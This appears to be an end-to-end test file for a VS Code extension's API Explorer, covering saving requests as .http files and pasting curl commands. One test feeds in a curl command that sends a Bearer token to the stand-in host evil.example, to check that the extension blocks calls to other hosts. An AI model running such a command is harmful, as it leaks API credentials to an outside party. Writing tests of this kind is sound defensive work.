import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before } from 'mocha';
import { type Sandbox, startSandbox } from '../../src/sandbox/server.ts';
import { connect } from '../support/connect.ts';
import { eventually } from '../support/eventually.ts';
import { removeFolder, temporaryFolder } from '../support/temporaryFolder.ts';
import { ExplorerPage } from '../support/workbench/explorerPage.ts';
import { useWorkbench } from '../support/workbench/useWorkbench.ts';

/** Put together, or this file would be a finding of the extension's own scan. */
const literal = ['tb', 'live', '8d1f0c6a35b94e72'].join('_');

describe('a call that leaves the explorer as .http and comes in as curl', () => {
  let sandbox: Sandbox;
  let folder: string;
  before(async () => {
    sandbox = await startSandbox({ shipments: 60 });
    folder = await temporaryFolder('http-file');
  });
  after(async () => {
    await sandbox.close();
    await removeFolder(folder);
  });
  const ui = useWorkbench({ folder: () => folder, settings: () => ({ 'trackberry.baseUrl': sandbox.baseUrl }) });
  const page = () => new ExplorerPage(ui.workbench);
  const file = () => join(folder, 'calls.http');
  const content = () => readFile(file(), 'utf8').catch(() => '');
  const copy = (text: string) => ui.workbench.page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(text)})`);
  const paste = () => ui.workbench.runCommand('Trackberry: Paste curl…');
  const posts = () => sandbox.requests.filter(({ method }) => method === 'POST');
  const inPage = () => page().frame.locator('body').evaluate<string, unknown>('document.documentElement.outerHTML');

  it('is saved as a request that reads the token from the environment, and shown', async () => {
    await ui.context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await ui.workbench.openView('Trackberry');
    await connect(ui.workbench, sandbox.token, 'Acme Produce');
    await ui.workbench.runCommand('Trackberry: Open API Explorer');
    await page().field('per_page').fill('2');
    await page().button('Save As .http').click();
    await ui.workbench.quickInput.answerPath(file(), 'Save As .http');
    await ui.workbench.editor.tab('calls.http').waitFor();
    const expected = `### GET /api/v1/shipments
# @no-redirect
GET ${sandbox.baseUrl}/shipments?per_page=2
Authorization: Bearer {{$processEnv TRACKBERRY_API_TOKEN}}
Content-Type: application/json
`;
    await eventually('the file', content, (text) => text === expected);
    await ui.workbench.screenshot('explorer-http-file');
  });

  it('is added to a file that is there, where one says so', async () => {
    const before = await content();
    await ui.workbench.editor.tab('API Explorer').click();
    await page().choose('Create Shipment');
    await page().field('body/shipment/reference').fill('{{BU}} "1"');
    await ui.workbench.runCommand('Trackberry: Save Request as .http…');
    await ui.workbench.quickInput.answerPath(file(), 'Save As .http');
    // VS Code's own dialog asks first, as it does for every file that is there.
    await ui.workbench.quickInput.waitFor('calls.http already exists.');
    await ui.workbench.page.keyboard.press('Enter');
    assert.match(await ui.workbench.dialog.text(), /Where does the request go in calls\.http/);
    await ui.workbench.screenshot('explorer-http-file-there');
    await ui.workbench.dialog.click('Add to the End');
    const text = await eventually('both requests', content, (now) => now.length > before.length);
    assert.ok(text.startsWith(`${before}\n### POST /api/v1/shipments\n`));
    assert.deepEqual(JSON.parse(text.split('\n\n').at(-1) ?? ''), { shipment: { reference: '{{BU}} "1"' } });
    assert.equal(text.split('{{').length, 3); // the token's variable, twice
  });

  it('is filled in from a curl command in the clipboard, and not sent', async () => {
    await copy(
      `curl -X POST "${sandbox.baseUrl}/shipments" \\\n  -H "Authorization: Bearer $TOKEN" \\\n  -d '{"shipment":{"reference":"it'\\''s BU-7"}}'`,
    );
    await paste();
    await page().frame.locator('.operation[aria-current]').getByText('Create Shipment').waitFor();
    await eventually(
      'the reference filled in',
      () => page().field('body/shipment/reference').inputValue(),
      (value) => value === "it's BU-7",
    );
    assert.deepEqual(posts(), []);
    await ui.workbench.screenshot('explorer-paste-curl');
  });

  it('comes without the token, which is offered to be stored', async () => {
    await copy(
      `curl -H 'Authorization: Bearer ${literal}' -H 'X-Trace: 7' '${sandbox.baseUrl}/shipments?status=approved&q=${literal}'`,
    );
    await ui.workbench.editor.tab('API Explorer').click();
    await page().button('Paste curl').click();
    await page().frame.locator('.operation[aria-current]').getByText('List Shipments').waitFor();
    await eventually(
      'the status filled in',
      () => page().field('status').inputValue(),
      (value) => value === 'approved',
    );
    assert.ok(!(await inPage()).includes(literal));
    await ui.workbench.notifications.waitFor('no field for this part of the command: q, X-Trace');
    await ui.workbench.notifications.waitFor('The command holds a token');
    assert.ok(!(await ui.workbench.notifications.texts()).join('\n').includes(literal));
    await ui.workbench.screenshot('explorer-paste-curl-token');
    await ui.workbench.notifications.click('The command holds a token', 'Check and Store…');
    assert.match(await ui.workbench.dialog.text(), /Send this token to http:.* and store it\?/);
    await ui.workbench.dialog.click('Cancel');
    assert.ok(sandbox.requests.every(({ url }) => !url.includes(literal)));
  });

  it('never calls another host', async () => {
    await copy(`curl https://evil.example/api/v1/shipments -H 'Authorization: Bearer $TOKEN'`);
    await paste();
    await eventually(
      'the reason',
      () => ui.workbench.notifications.texts(),
      (all) => all.some((text) => /calls evil\.example, not the API at http:\/\/127\.0\.0\.1/.test(text)),
    );
  });

  it('is asked for in a hidden box where the clipboard holds no command', async () => {
    await copy('no command');
    await paste();
    await ui.workbench.quickInput.waitFor('The clipboard holds no curl command');
    assert.equal(await ui.workbench.quickInput.isPassword(), true);
    await ui.workbench.quickInput.answer(`curl ${sandbox.baseUrl}/shipments/ship_7`);
    await page().frame.locator('.operation[aria-current]').getByText('Get Shipment').waitFor();
    await eventually(
      'the id filled in',
      () => page().field('id').inputValue(),
      (value) => value === 'ship_7',
    );
  });
});
